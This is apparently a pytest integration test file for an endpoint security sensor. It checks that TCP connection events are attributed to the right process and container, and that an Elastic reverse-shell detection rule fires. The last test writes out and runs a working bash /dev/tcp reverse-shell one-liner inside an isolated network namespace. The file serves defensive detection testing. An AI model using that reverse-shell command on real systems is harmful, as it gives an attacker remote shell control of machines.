"""connection_attempted and connection_accepted documents from real TCP connects and accepts, on the host and in
a real container, attributed to the process that made them (a thread, a forked child that never exec'd), and an
Elastic rule over network events fired by a real reverse shell."""

from __future__ import annotations

import os
import shutil
import subprocess
import sys
import textwrap
from pathlib import Path

import pytest

from tests.integration.conftest_containers import PODMAN_RUN, podman_image_ref, test_rootfs  # noqa: F401
from tests.integration.sensor_process import SensorProcess, get

pytestmark = pytest.mark.kernel

RULES = Path(__file__).resolve().parents[3] / "shared" / "elastic-rules" / "linux"


def _network(sensor: SensorProcess, pid: int, action: str) -> list[dict]:
    return [d for d in sensor.docs if get(d, "process.pid") == pid and get(d, "event.action") == action]


# One process: a listener accepting on a thread, a connect from the main thread, then a forked child (which never
# execs) connecting too; it prints its pid, the listener's port and the child's pid.
PAIR = textwrap.dedent("""
    import os, socket, sys, threading
    family = socket.AF_INET6 if sys.argv[1] == "6" else socket.AF_INET
    host = "::1" if family == socket.AF_INET6 else "127.0.0.1"
    server = socket.socket(family); server.bind((host, 0)); server.listen()
    port = server.getsockname()[1]
    accepted = []
    def serve():
        for _ in range(2):
            conn, peer = server.accept(); accepted.append(peer[1]); conn.close()
    thread = threading.Thread(target=serve); thread.start()
    client = socket.create_connection((host, port)); own_port = client.getsockname()[1]; client.close()
    child = os.fork()
    if child == 0:
        socket.create_connection((host, port)).close(); os._exit(0)
    os.waitpid(child, 0); thread.join()
    print(os.getpid(), port, own_port, child, flush=True)
    sys.stdin.read()
""")


@pytest.mark.parametrize("family", ["4", "6"])
def test_connects_and_accepts_are_documents_of_the_process_that_made_them(family: str) -> None:
    with SensorProcess() as sensor:
        proc = subprocess.Popen([sys.executable, "-c", PAIR, family], stdin=subprocess.PIPE, stdout=subprocess.PIPE,
                                text=True)
        pid, port, own_port, child = (int(x) for x in proc.stdout.readline().split())
        exec_doc = sensor.exec_of(pid)
        sensor.wait_for(lambda d: get(d, "process.pid") == pid and get(d, "event.action") == "connection_accepted",
                        count=2, timeout=15)
        sensor.wait_for(lambda d: get(d, "process.pid") == child
                        and get(d, "event.action") == "connection_attempted", timeout=15)
        proc.communicate("", timeout=30)
        attempted = _network(sensor, pid, "connection_attempted")
        accepted = _network(sensor, pid, "connection_accepted")
        forked = _network(sensor, child, "connection_attempted")
    loopback = "::1" if family == "6" else "127.0.0.1"
    assert len(attempted) == 1 and len(accepted) == 2 and len(forked) == 1
    (out,) = attempted
    assert get(out, "destination.ip") == loopback and get(out, "destination.port") == port
    assert get(out, "source.port") == own_port  # the port the kernel picked after the SYN_SENT transition
    assert get(out, "network.type") == ("ipv6" if family == "6" else "ipv4")
    assert get(out, "network.transport") == "tcp" and get(out, "network.direction") == "egress"
    assert get(out, "event.category") == ["network"] and get(out, "event.type") == ["start"]
    assert get(out, "data_stream.dataset") == "endpoint.events.network"
    # accepted on another thread of the process: the process (its leader's start) is still the one that exec'd
    for doc in (out, *accepted):
        assert get(doc, "process.entity_id") == get(exec_doc, "process.entity_id")
        assert get(doc, "process.executable") == get(exec_doc, "process.executable")
    first = next(d for d in accepted if get(d, "destination.port") == own_port)
    assert get(first, "source.port") == port and get(first, "network.direction") == "ingress"
    # the forked child that never exec'd is known by then (its fork record went out ahead of the connection)
    assert get(forked[0], "process.parent.pid") == pid
    assert get(forked[0], "process.entity_id") != get(exec_doc, "process.entity_id")
    assert " 0 lost" in sensor.stderr()
    assert "without its process" not in sensor.stderr()


def test_a_connection_inside_a_container_names_the_container(podman_image_ref: str) -> None:  # noqa: F811
    """busybox nc listening and connecting over the loopback of the container's own network namespace."""
    name = f"cs-net-{os.getpid()}"
    script = "nc -l -p 7777 >/dev/null & sleep 0.5; echo hi | nc 127.0.0.1 7777; wait"
    with SensorProcess() as sensor:
        done = subprocess.run([*PODMAN_RUN, "--rm", "--name", name, podman_image_ref, "sh", "-c", script],
                              capture_output=True, text=True, timeout=120)
        assert done.returncode == 0, done.stderr
        docs = sensor.wait_for(lambda d: get(d, "event.category") == ["network"] and get(d, "container.name") == name,
                               count=2, timeout=20)
    actions = sorted(get(d, "event.action") for d in docs)
    assert actions == ["connection_accepted", "connection_attempted"]
    for doc in docs:
        # busybox's shell runs its applets by exec of /proc/self/exe: argv[0] names the applet
        assert (get(doc, "process.args") or [""])[0] == "nc"
        assert get(doc, "destination.ip") == "127.0.0.1"
        assert get(doc, "container_sensor.namespaces.net") != os.stat("/proc/self/ns/net").st_ino


def test_elastic_reverse_shell_rule_fires_on_a_real_reverse_shell(tmp_path: Path) -> None:
    """Elastic's "Potential Reverse Shell via Child" rule (network by a shell, then that process execs an interactive
    shell), unchanged from the corpus, on `exec bash -i >& /dev/tcp/...` against a listener in a private network
    namespace that holds a public-looking address (nothing leaves the machine)."""
    rule = RULES / "execution_shell_via_child_tcp_utility_linux.toml"
    if not rule.is_file():
        pytest.fail(f"the rule corpus is missing: {rule}")
    if shutil.which("unshare") is None or shutil.which("ip") is None:
        pytest.fail("unshare and ip are needed: apt-get install -y util-linux iproute2")
    (tmp_path / "rule.toml").write_text(rule.read_text())
    script = textwrap.dedent("""
        ip link set lo up && ip addr add 93.184.216.34/32 dev lo || exit 3
        (echo exit | busybox nc -l -p 4444 >/dev/null) &
        sleep 0.5
        bash -c 'exec bash -i >& /dev/tcp/93.184.216.34/4444 0>&1'
        wait
    """)
    with SensorProcess("--rules", str(tmp_path), "--no-builtin-rules") as sensor:
        done = subprocess.run(["unshare", "-n", "bash", "-c", script], capture_output=True, text=True, timeout=60)
        assert done.returncode == 0, done.stderr
        alerts = sensor.wait_for(lambda d: get(d, "event.kind") == "alert", timeout=15)
    assert get(alerts[0], "rule.name") == "Potential Reverse Shell via Child"
    assert get(alerts[0], "process.name") == "bash"
    attempts = [d for d in sensor.docs if get(d, "event.action") == "connection_attempted"
                and get(d, "destination.ip") == "93.184.216.34"]
    assert attempts and get(attempts[0], "destination.port") == 4444
